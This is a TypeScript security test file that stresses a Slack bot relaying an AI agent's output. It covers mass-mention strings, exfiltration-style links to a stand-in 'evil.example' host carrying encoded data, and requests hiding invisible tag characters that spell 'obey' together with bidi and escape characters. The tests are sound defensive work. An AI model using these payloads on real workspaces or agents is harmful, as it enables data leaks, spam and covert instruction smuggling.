import { seed } from '../../../src/local/slack/workspace.ts';
import type { Attack } from '../attack.ts';
import type { Stage } from '../stage.ts';

/** Everything that a message shows: neither names of fields nor what a press sends back. */
function shownIn(message: { text: string; blocks?: unknown }): string {
  const unseen = new Set(['type', 'value', 'action_id', 'block_id', 'task_id', 'url', 'style', 'status']);
  const texts: string[] = [];
  JSON.stringify([message.text, message.blocks], (key, value) => {
    if (unseen.has(key)) return undefined;
    if (typeof value === 'string') texts.push(value);
    return value;
  });
  return texts.join('\n');
}

function botMessages({ errand, channel }: Stage) {
  return errand.slack.store.workspace.messages.filter((each) => each.user === seed.bot && each.channel === channel);
}

/** Has a script print something and change nothing, and gives all that the bot then said. */
async function printed(stage: Stage, script: string) {
  await stage.play(script);
  await stage.until('the ending to be shown', () =>
    botMessages(stage).some(({ text }) => text.includes('Nothing changed')),
  );
  return botMessages(stage);
}

const quoted = (text: string) => `printf '%s\\n' '${text}'`;

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be shown
const hidden = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;

export const attacks: readonly Attack[] = [
  {
    id: 'K5',
    title: 'Mentions in what an agent says',
    expected: 'nobody is called',
    representative: true,
    attack: async (stage) => {
      const lines = [
        '<!channel> <!here>',
        `<@${seed.max}>`,
        `<!subteam^${seed.reviewers}|all>`,
        '<!chan<!date^1^x|nel>>',
        '@everyone @channel',
      ];
      const messages = await printed(stage, lines.map(quoted).join('\n'));
      const call = new RegExp(
        `<!(?:channel|here|everyone|subteam)|<@${seed.max}|(?<![\\w.])@(?:channel|here|everyone)`,
        'i',
      );
      const calling = messages.map(shownIn).flatMap((text) => call.exec(text)?.[0] ?? []);
      return {
        through: calling.length > 0,
        seen: calling[0] === undefined ? 'no mention' : `${calling[0]} in a message`,
      };
    },
    control: { weakness: 'raw-text', without: 'escaping: what it says as it says it' },
  },
  {
    id: 'K6',
    title: 'A link that carries data out, and its preview',
    expected: 'no link to that host, no preview',
    attack: async (stage) => {
      const url = `https://${stage.word}.evil.example/?d=c2VjcmV0`;
      const lines = [
        url,
        `<${url}|GitHub>`,
        `[the pull request](${url})`,
        `\`${url}\``,
        `www.${stage.word}.evil.example`,
      ];
      const messages = await printed(stage, lines.map(quoted).join('\n'));
      const live = messages.map(shownIn).some((text) => text.includes(`${stage.word}.evil.example`));
      const previews = messages.some(
        ({ unfurl_links, unfurl_media }) => unfurl_links !== false || unfurl_media !== false,
      );
      const seen = `${live ? 'the address as it is' : 'hxxps://…[.]evil[.]example'}; previews ${previews ? 'on' : 'off'}`;
      return { through: live || previews, seen };
    },
    control: { weakness: 'raw-text', without: 'disarming of addresses' },
  },
  {
    id: 'K7',
    title: 'Hidden characters in a request, 30,000 printed',
    expected: 'cut, and nothing that is not drawn',
    attack: async (stage) => {
      const tags = [...'obey'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
      const text = `Say ${stage.word}${tags} \u202eelif a\u2066 to\u200b me`;
      const block = `\`\`\`sh\nprintf '${stage.word}\\033[31m\\342\\200\\256red'; head -c 30000 /dev/zero | tr '\\0' x\n\`\`\``;
      const order = { user: seed.ada, channel: stage.channel, command: '/agent' };
      await stage.errand.slack.people.command({
        ...order,
        text: `repo:${stage.repository} agent:shell ${text}\n${block}`,
      });
      await stage.until('the ending to be shown', () =>
        botMessages(stage).some((each) => each.text.includes('Nothing changed')),
      );
      const messages = botMessages(stage);
      const found = messages.filter((each) => hidden.test(shownIn(each)));
      const longest = Math.max(...messages.map((each) => each.text.length));
      const most = Math.max(...messages.map(({ blocks = [] }) => blocks.length));
      const through = found.length > 0 || longest > 4_000 || most > 50;
      return { through, seen: `${found.length} with hidden ones; at most ${longest} characters, ${most} blocks` };
    },
    control: { weakness: 'hidden-text', without: 'leaving out what nobody sees' },
  },
];
